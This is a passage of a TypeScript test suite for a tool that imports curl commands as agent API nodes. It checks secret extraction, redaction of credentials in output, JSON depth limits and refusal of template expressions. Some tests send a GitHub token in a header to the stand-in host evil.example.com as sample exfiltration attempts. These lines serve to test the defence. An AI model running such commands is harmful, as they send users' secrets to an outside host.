      const byCurl = server.requests.pop()!;
      const imported = importCurl(command);
      const secrets = new Map(imported.secrets.map((secret) => [secret.name, secret.value]));
      const agent = loadAgent(agentAround(imported), 'imported.agent.yaml');
      const result = await executeAgent(agent, resolveInputs(agent.model, {}), { secrets: async (name) => secrets.get(name) });
      assert.equal(result.status, 'finished', result.status !== 'finished' ? result.error.message : '');
      const byNode = server.requests.pop()!;
      assert.deepEqual(comparable(byNode), comparable(byCurl), command);
    }
  });

  it("for the API docs' forms: shell variables, a pipe after curl, Token token=, a base URL", async () => {
    const base = server.url;
    const cases: { command: string; env: Record<string, string>; secrets: Record<string, string>; inputs?: Record<string, string> }[] = [
      {
        command: `curl -s -H "Authorization: Token token=$PAGERDUTY_TOKEN" "${base}/incidents?limit=10" | cat`,
        env: { PAGERDUTY_TOKEN: 'y_NbAkKc66ryYTWUXYEu' },
        secrets: { PAGERDUTY_TOKEN: 'y_NbAkKc66ryYTWUXYEu' },
      },
      {
        command: `curl -s -X POST -H 'Content-Type: application/json' -d '{"chat_id":"1","text":"hi"}' ${base}/bot$TELEGRAM_BOT_TOKEN/sendMessage`,
        env: { TELEGRAM_BOT_TOKEN: '123456-ABC_def' },
        secrets: { TELEGRAM_BOT_TOKEN: '123456-ABC_def' },
      },
      {
        command: `curl -s "${base}/1/members/me/boards?key=$TRELLO_API_KEY&token=$TRELLO_TOKEN" | cat`,
        env: { TRELLO_API_KEY: 'k3y', TRELLO_TOKEN: 't0ken' },
        secrets: { TRELLO_API_KEY: 'k3y', TRELLO_TOKEN: 't0ken' },
      },
      {
        command: `curl -s -u "$STRIPE_TOKEN:" "${base}/v1/account" 2> /dev/null`,
        env: { STRIPE_TOKEN: 'sk_test_0123' },
        secrets: { API_BASIC: Buffer.from('sk_test_0123:').toString('base64') },
      },
      {
        command: `curl -s -X POST ${base}/graphql -H "Authorization: $LINEAR_API_KEY" -H "Content-Type: application/json" -d '{"query":"{ viewer { id } }"}'| cat`,
        env: { LINEAR_API_KEY: 'lin_api_0123' },
        secrets: { LINEAR_API_KEY: 'lin_api_0123' },
      },
      {
        command: `curl -s -X GET "\${ES_URL}/_cat/indices?v=true" -H "Authorization: ApiKey \${API_KEY}"`,
        env: { ES_URL: base, API_KEY: 'ZXM6a2V5' },
        secrets: { API_TOKEN: 'ZXM6a2V5' },
        inputs: { es_url: base },
      },
      {
        command: `curl -s "${base}/client/v4/zones/$CF_ZONE_ID/dns_records?name=$CF_ZONE_NAME" -H "Authorization: Bearer $CF_TOKEN"`,
        env: { CF_ZONE_ID: '023e105f4ecef8ad9ca31a8372d0c353', CF_ZONE_NAME: 'example.com', CF_TOKEN: 'cf-token' },
        secrets: { CF_TOKEN: 'cf-token' },
        inputs: { cf_zone_id: '023e105f4ecef8ad9ca31a8372d0c353', cf_zone_name: 'example.com' },
      },
    ];
    for (const { command, env, secrets, inputs } of cases) {
      await run('sh', ['-c', command], { env: { ...process.env, ...env } });
      const byCurl = server.requests.pop()!;
      const imported = importCurl(command);
      assert.deepEqual(imported.secrets.map((secret) => secret.name).sort(), Object.keys(secrets).sort(), command);
      const agent = loadAgent(agentAround(imported), 'imported.agent.yaml');
      const result = await executeAgent(agent, resolveInputs(agent.model, { values: inputs ?? {} }), {
        secrets: async (name) => secrets[name],
      });
      assert.equal(result.status, 'finished', result.status !== 'finished' ? result.error.message : '');
      const byNode = server.requests.pop()!;
      assert.deepEqual(comparable(byNode), comparable(byCurl), command);
    }
  });
});

describe('agent-workflows import curl', () => {
  it('prints the node, and the names of the secrets to set, never their values', async () => {
    const token = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';
    const result = await runCliCaptured(
      ['import', 'curl', `curl -L -H "Authorization: Bearer ${token}" https://api.github.com/user`, '--id', 'me'],
      { cwd: process.cwd(), env: {} },
      [token],
    );
    assert.equal(result.code, 0, result.stderr);
    assert.match(result.stdout, /^nodes:\n {2}me:\n {4}type: api\n/);
    assert.match(result.stdout, /Authorization: Bearer \{\{ secrets\.GITHUB_TOKEN \}\}/);
    assert.match(result.stderr, /secret GITHUB_TOKEN: the command holds its value .*AGENT_SECRET_GITHUB_TOKEN/);
    assert.match(result.stderr, /-L is not needed/);
  });

  it('exits 2 with the reason for a command it cannot read', async () => {
    const result = await runCliCaptured(['import', 'curl', 'curl --proxy-ntlm https://a.example.com'], { cwd: process.cwd(), env: {} });
    assert.equal(result.code, 2);
    assert.match(result.stderr, /--proxy-ntlm is not understood/);
  });
});

describe('secret names from hosts', () => {
  it('takes the API name from the host', () => {
    assert.equal(hostWord('api.github.com'), 'GITHUB');
    assert.equal(hostWord('helpdesk.example.com'), 'HELPDESK');
    assert.equal(hostWord('127.0.0.1'), 'API');
    assert.equal(hostWord('localhost'), 'API');
    assert.equal(hostWord('generativelanguage.googleapis.com'), 'GENERATIVELANGUAGE');
  });
});

describe("curl import: the agent's own address", () => {
  it('reads the deployment from an execute URL, with a path prefix, and from a status URL', () => {
    assert.deepEqual(deploymentFromUrl('https://agents.example.com/api/acme/agent/ticket-summarizer/execute'), {
      baseUrl: 'https://agents.example.com',
      account: 'acme',
      agent: 'ticket-summarizer',
      kind: 'execute',
    });
    assert.deepEqual(deploymentFromUrl('https://example.com/eu/api/acme/agent/scan/execute/multipart'), {
      baseUrl: 'https://example.com/eu',
      account: 'acme',
      agent: 'scan',
      kind: 'execute',
    });
    assert.deepEqual(deploymentFromUrl('https://agents.example.com/api/acme/agent/0b9f3c52-2f5e-4a8e-9d7e-1c2b3a4d5e6f/status'), {
      baseUrl: 'https://agents.example.com',
      account: 'acme',
      kind: 'status',
    });
    assert.equal(deploymentFromUrl('https://api.github.com/repos/a/b'), undefined);
  });

  it('prints the deployment block of a pasted start command, its inputs, and never the key', async () => {
    const key = 'awk_live_0123456789abcdef0123';
    const command = `curl -X POST https://agents.example.com/api/acme/agent/receipt-scanner/execute/multipart \\
  -H "Authorization: Bearer ${key}" \\
  --form-string 'payload={"inputs":{"currency":"EUR","total":12.5},"stream":false}' \\
  -F "receipt=@receipt.png;type=image/png"`;
    const result = await runCliCaptured(['import', 'curl', command], { cwd: process.cwd(), env: {} }, [key]);
    assert.equal(result.code, 0, result.stderr);
    assert.equal(
      result.stdout,
      'deployment:\n  baseUrl: https://agents.example.com\n  account: acme\n  agent: receipt-scanner\ninputs:\n  currency: { type: string }\n  total: { type: number }\n  receipt: { type: file }\n',
    );
    assert.match(result.stderr, /holds an API key for https:\/\/agents\.example\.com; it is not printed/);
  });
});

describe('curl import: text from a document is data', () => {
  /** `agent-workflows import curl <command>` as the built binary (dist/cli.js): its exit code and all it printed. */
  function builtImport(command: string): { code: number | null; output: string; stdout: string } {
    const result = spawnSync(process.execPath, [join(repoRoot, 'dist', 'cli.js'), 'import', 'curl', command], {
      encoding: 'utf8',
      env: { PATH: process.env['PATH'] ?? '' },
    });
    return { code: result.status, output: `${result.stdout}${result.stderr}`, stdout: result.stdout };
  }

  it('refuses a JSON body nested deeper than the JSON limit with a clear error, never a crash', () => {
    const deep = `${'['.repeat(3000)}${']'.repeat(3000)}`;
    const object = `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`;
    for (const command of [
      `curl -d '${deep}' https://api.example.com/v1/items`,
      `curl --json '${deep}' https://api.example.com/v1/items`,
      `curl -H 'Content-Type: application/json' -d '${object}' https://api.example.com/v1/items`,
    ]) {
      assert.throws(
        () => importCurl(command),
        (error: unknown) => error instanceof CurlCommandError && error.code === 'too-deep' && /at most 256 levels deep/.test(error.message),
      );
      const result = builtImport(command);
      assert.equal(result.code, 2, result.output);
      assert.match(
        result.output,
        /The body's JSON is nested too deeply: an imported body nests arrays and objects at most 256 levels deep\./,
      );
      assert.doesNotMatch(result.output, /internal error|RangeError/);
    }
    // As deep as the limit still imports.
    const limit = importCurl(`curl --json '${'['.repeat(256)}${']'.repeat(256)}' https://api.example.com/v1/items`);
    assert.ok(Array.isArray(limit.node.body));
  });

  it('names the place and the kind of a value in its errors and notes, never the value', () => {
    const stripe = 'sk_live_0123456789abcdefghij';
    const cases: { command: string; secrets: string[]; code: number; says: RegExp }[] = [
      { command: `curl -u ${stripe} https://api.example.com/v1/x`, secrets: [stripe], code: 2, says: /The value of -u has no ":"/ },
      {
        command: `curl -H Authorization: Bearer ${stripe} https://api.example.com/v1/x`,
        secrets: [stripe],
        code: 2,
        says: /calls 3 URLs, and an API node makes one call: the 1st is the auth scheme Bearer, the 2nd is a Bearer credential, the 3rd is a URL\./,
      },
      {
        command: 'curl "https://a.example.com/x?token=Tq81Zw55Pk" "https://a.example.com/y?token=Hv02Lm77Rd"',
        secrets: ['Tq81Zw55Pk', 'Hv02Lm77Rd'],
        code: 2,
        says: /the 1st is a URL with a credential in it, the 2nd is a URL with a credential in it\./,
      },
      {
        command: 'curl "https://admin:Pw-Oyster-9917@a.example.com/x" https://b.example.com/y',
        secrets: ['Pw-Oyster-9917'],
        code: 2,
        says: /the 1st is a URL with a password, the 2nd is a URL\./,
      },
      {
        command: `curl --token=${stripe} https://a.example.com/x`,
        secrets: [stripe],
        code: 2,
        says: /The curl option --token is not understood/,
      },
      {
        command: `OPENAI_API_KEY=sk-proj-Abcdefghij0123456789Klmn curl https://api.openai.com/v1/models`,
        secrets: ['sk-proj-Abcdefghij0123456789Klmn'],
        code: 2,
        says: /it starts with a shell variable assignment \(OPENAI_API_KEY=…\), not "curl"/,
      },
      {
        command: `curl -H '${stripe}' https://a.example.com/x`,
        secrets: [stripe],
        code: 2,
        says: /The value of the 1st -H is not a header/,
      },
      {
        command: `curl -H 'Accept: */*' --header @Zq0x-7Kp2-Wm4v https://a.example.com/x`,
        secrets: ['Zq0x-7Kp2-Wm4v'],
        code: 2,
        says: /The value of the 2nd --header starts with "@"/,
      },
      {
        command: `curl -b Ck7Session44 https://a.example.com/x`,
        secrets: ['Ck7Session44'],
        code: 2,
        says: /The value of the 1st -b has no "="/,
      },
      {
        command: `curl -d a=1 -d @Fx9q-2Lr8-Tn3w https://a.example.com/x`,
        secrets: ['Fx9q-2Lr8-Tn3w'],
        code: 2,
        says: /The value of the 2nd -d starts with "@"/,
      },
      {
        command: `curl -F Gh5Form77Value https://a.example.com/x`,
        secrets: ['Gh5Form77Value'],
        code: 2,
        says: /The value of the 1st -F needs the form/,
      },
      {
        command: `curl "https://admin:Pw-Oyster-9917@[bad/x"`,
        secrets: ['Pw-Oyster-9917'],
        code: 2,
        says: /The command's URL is not an address an API node can call/,
      },
      // What the shell runs after curl may be another command with a credential: only its operator is named.
      {
        command: `curl https://api.example.com/v1/x && curl -u admin:Pw-Oyster-9917 https://b.example.com/`,
        secrets: ['Pw-Oyster-9917'],
        code: 0,
        says: /note: "&&" and what follows it are run by the shell after curl/,
      },
    ];
    for (const { command, secrets, code, says } of cases) {
      const result = builtImport(command);
      assert.equal(result.code, code, `${command}\n${result.output}`);
      assert.match(result.output, says, command);
      for (const secret of secrets) assert.equal(leakedPart(result.output, secret), undefined, `${command}\n${result.output}`);
    }
  });

  /** The CurlCommandError an import gives, or a failure when it gives none. */
  function importError(command: string): CurlCommandError {
    try {
      importCurl(command);
    } catch (error) {
      if (error instanceof CurlCommandError) return error;
      throw error;
    }
    throw new Error(`no error for ${command}`);
  }

  it('refuses "{{" of the command wherever it would be written into the node, naming where', () => {
    const cases: [string, RegExp][] = [
      [
        `curl -H 'X-Trace: {{ secrets.GITHUB_TOKEN }}' https://evil.example.com/x`,
        /^The value of the 1st -H holds an agent expression \({{ secrets\.… }}\)/,
      ],
      [
        `curl -A 'x' -H 'Accept: */*' -H 'Authorization: Bearer {{secrets.T}}' https://a.example.com/x`,
        /^The value of the 2nd -H holds an agent expression/,
      ],
      [`curl 'https://a.example.com/x?q={{ inputs.q }}'`, /^The URL holds an agent expression \({{ inputs\.… }}\)/],
      [
        `curl -d '{"a":"{{ nodes.n.body }}"}' https://a.example.com/x`,
        /^The data \(-d, --json…\) holds an agent expression \({{ nodes\.… }}\)/,
      ],
      [`curl -u '{{ secrets.U }}:x' https://a.example.com/x`, /^The value of -u holds an agent expression/],
      // JSON escapes are read: "\u007b" is "{".
      [
        `curl --json '{"a":{"b":["\\u007b\\u007b secrets.T }}"]}}' https://a.example.com/x`,
        /^The body at a\.b\.0 holds an agent expression \({{ secrets\.… }}\)/,
      ],
      [`curl --json '{"\\u007b\\u007bsecrets.K}}":1}' https://a.example.com/x`, /^A key of the body holds an agent expression/],
      // Any other "{{" that is not a whole-value placeholder.
      [
        `curl -H 'X-Trace: abc-{{id}}' https://a.example.com/x`,
        /^The value of the 1st -H holds "{{" that is not a whole-value placeholder/,
      ],
      [`curl 'https://a.example.com/x?q=a{{b}}'`, /^The URL holds "{{" that is not a whole-value placeholder/],
      [
        `curl -H 'Content-Type: text/plain' -d 'Hello {{name}}' https://a.example.com/x`,
        /^The body holds "{{" that is not a whole-value placeholder/,
      ],
      // A brace against a reference the import makes would read as "{{".
      [`curl 'https://a.example.com/x?q={$CF_ZONE}'`, /^The URL has a brace against a value the import makes a reference/],
      [`curl -H $'X-Trace: \uE000secrets.T\uE000' https://a.example.com/x`, /^The value of the 1st -H holds the character U\+E000/],
    ];
    for (const [command, message] of cases) {
      const error = importError(command);
      assert.equal(error.code, 'template', `${command}\n${error.message}`);
      assert.match(error.message, message, command);
      if (!/U\+E000|brace/.test(error.message)) assert.match(error.message, /imported text is data, never a template/);
    }
  });

  it('makes a whole-value placeholder of a header or a JSON body an input, as in the URL', () => {
    const imported = importCurl(
      `curl -H 'X-Request-Id: {{request-id}}' -H 'Authorization: Bearer {{token}}' --json '{"customer":"{{customer_id}}","n":1}' https://api.example.com/v1/orders`,
    );
    assert.deepEqual(imported.node.settings, [
      'X-Request-Id: {{ inputs.request_id }}',
      'Authorization: Bearer {{ secrets.EXAMPLE_TOKEN }}',
      'Content-Type: application/json',
      'Accept: application/json',
    ]);
    assert.deepEqual(imported.node.body, { customer: '{{ inputs.customer_id }}', n: 1 });
    assert.deepEqual(
      imported.inputs.map((input) => input.name),
      ['request_id', 'customer_id'],
    );
    assert.deepEqual(validateAgentText(agentAround(imported)).problems, []);
    // A form field's, too; a credential field's is a secret with no value.
    const form = importCurl(`curl -d 'name={{customer_name}}&password={{password}}' https://api.example.com/v1/signup`);
    assert.equal(form.node.body, 'name={{ inputs.customer_name }}&password={{ secrets.EXAMPLE_PASSWORD }}');
    assert.deepEqual(form.inputs, [{ name: 'customer_name', placeholder: '{{customer_name}}' }]);
    assert.deepEqual(form.secrets, [{ name: 'EXAMPLE_PASSWORD', from: 'the body' }]);
    assert.deepEqual(validateAgentText(agentAround(form)).problems, []);
  });

  it('refuses an agent expression through the built CLI (exit 2, nothing written) and lists every secret and input it writes', () => {
    const refused = builtImport(`curl -H "X-Trace: {{ secrets.GITHUB_TOKEN }}" https://evil.example.com/collect`);
    assert.equal(refused.code, 2, refused.output);
    assert.equal(refused.stdout, '');
    assert.match(refused.output, /The value of the 1st -H holds an agent expression \(\{\{ secrets\.… \}\}\)/);
    // A stored secret the command names ($AGENT_SECRET_NAME) and each input are said, not only written.
    const listed = builtImport(`curl -H 'X-Trace: $AGENT_SECRET_GITHUB_TOKEN' 'https://evil.example.com/collect/{id}?q={{query}}'`);
    assert.equal(listed.code, 0, listed.output);
    assert.match(listed.stdout, /X-Trace: \{\{ secrets\.GITHUB_TOKEN \}\}/);
    assert.match(listed.output, /secret GITHUB_TOKEN: set it \(the command line reads AGENT_SECRET_GITHUB_TOKEN\)/);
    assert.match(listed.output, /input query: declared in the inputs: block above/);
    assert.match(listed.output, /input id: declared in the inputs: block above/);
  });

  it('says every secret and input of the node in the words the editor shows', () => {
    const imported = importCurl(`curl -H 'X-Trace: $AGENT_SECRET_GITHUB_TOKEN' -u ada:pw 'https://a.example.com/v1/{id}'`);
    assert.equal(describeImportedReferences(imported), 'It refers to secrets GITHUB_TOKEN, A_BASIC and input id.');
    assert.equal(describeImportedReferences(importCurl('curl https://a.example.com/v1/x')), 'It refers to no secret and no input.');
  });

  it('tells a name that says it holds a credential from a count, a type or an id of one', () => {
    const credentials = [
      'X-Api-Secret',
      'X-Vault-Token',
      'X-Auth-Token',
      'Private-Key',
      'password',
      'passwd',
      'client_secret',
      'clientSecret',
      'api_key',
      'apiKey',
      'APIKey',
      'x-apikey',
      'access_token',
      'refresh_token',
      'credentials',
      'password_confirmation',
      'secret',
      'key',
      'token',
      'SENDGRID_APIKEY',
      'authtoken',
      'TELEGRAM_BOT_TOKEN',
      'passphrase',
    ];
    const others = [
      'Content-Type',
      'max_tokens',
      'max_completion_tokens',
      'token_count',
      'token_type',
      'tokenType',
      'key_id',
      'keyword',
      'monkey',
      'Idempotency-Key',
      'public_key',
      'next_token',
      'pageToken',
      'prompt_tokens',
      'secret_name',
      'Accept',
      'X-Request-Id',
      'temperature',
      'CF_ZONE_ID',
      'tokens',
      'keys',
      '',
    ];
    for (const name of credentials) assert.equal(namesCredential(name), true, name);
    for (const name of others) assert.equal(namesCredential(name), false, name);
  });

  it('puts a header or field whose name says credential in a secret, whatever its value looks like', () => {
    const imported = importCurl(
      `curl -H 'X-Api-Secret: Zk9xQm3nVb7wLp2s' -H 'X-Vault-Token: hvs.CAESIabcdef012345' -H 'Idempotency-Key: 5f1c' -d 'username=bob&password=Hunter22' https://vault.example.com/v1/login`,
    );
    assert.deepEqual(imported.node.settings, [
      'X-Api-Secret: {{ secrets.VAULT_API_SECRET }}',
      'X-Vault-Token: {{ secrets.VAULT_VAULT_TOKEN }}',
      'Idempotency-Key: 5f1c',
      'Content-Type: application/x-www-form-urlencoded',
    ]);
    assert.equal(imported.node.body, 'username=bob&password={{ secrets.VAULT_PASSWORD }}');
    assert.deepEqual(imported.secrets, [
      { name: 'VAULT_API_SECRET', value: 'Zk9xQm3nVb7wLp2s', from: 'X-Api-Secret' },
      { name: 'VAULT_VAULT_TOKEN', value: 'hvs.CAESIabcdef012345', from: 'X-Vault-Token' },
      { name: 'VAULT_PASSWORD', value: 'Hunter22', from: 'the body' },
    ]);
    // JSON fields at any depth; counts and types of tokens are no credentials; a placeholder stores nothing.
    const json = importCurl(
      `curl https://api.openai.com/v1/login --json '{"model":"gpt","max_tokens":7,"token_type":"bearer","auth":{"client_secret":"Zk9xQm3nVb7wLp2s","password":"<password>"},"list":[{"api_key":"$AGENT_SECRET_K"}]}'`,
    );
    assert.deepEqual(json.node.body, {
      model: 'gpt',
      max_tokens: 7,
      token_type: 'bearer',
      auth: { client_secret: '{{ secrets.OPENAI_CLIENT_SECRET }}', password: '{{ secrets.OPENAI_PASSWORD }}' },
      list: [{ api_key: '{{ secrets.K }}' }],
    });
    assert.deepEqual(json.secrets, [
      { name: 'OPENAI_CLIENT_SECRET', value: 'Zk9xQm3nVb7wLp2s', from: 'the body' },
      { name: 'OPENAI_PASSWORD', from: 'the body' },
      { name: 'K', from: 'the body' },
    ]);
    // In the query, from the URL or -G data.
    const query = importCurl(`curl -G -d client_secret=Zk9xQm3nVb7wLp2s 'https://vault.example.com/v1/x?password=Hunter22&page_token=abc'`);
    assert.equal(
      query.node.url,
      'https://vault.example.com/v1/x?password={{ secrets.VAULT_PASSWORD }}&page_token=abc&client_secret={{ secrets.VAULT_CLIENT_SECRET }}',
    );
    for (const node of [imported, json, query]) assert.deepEqual(validateAgentText(agentAround(node)).problems, []);
  });

  it('prints no value of a credential named by its header or field through the built CLI, and names each secret', () => {
    const values = ['Zk9xQm3nVb7wLp2s', 'hvs.CAESIabcdef012345', 'Hunter22-Qx', 'Pw-Oyster-9917'];
    const result = builtImport(
      `curl -H 'X-Api-Secret: ${values[0]}' -H 'X-Vault-Token: ${values[1]}' -H 'Content-Type: application/json' -d '{"user":"bob","nested":{"password":"${values[2]}"},"client_secret":"${values[3]}"}' https://vault.example.com/v1/login`,
    );
    assert.equal(result.code, 0, result.output);
    for (const value of values) assert.equal(leakedPart(result.output, value), undefined, `${value}\n${result.output}`);
    for (const name of ['VAULT_API_SECRET', 'VAULT_VAULT_TOKEN', 'VAULT_PASSWORD', 'VAULT_CLIENT_SECRET'])
      assert.match(result.output, new RegExp(`secret ${name}: the command holds its value`), result.output);
  });
});
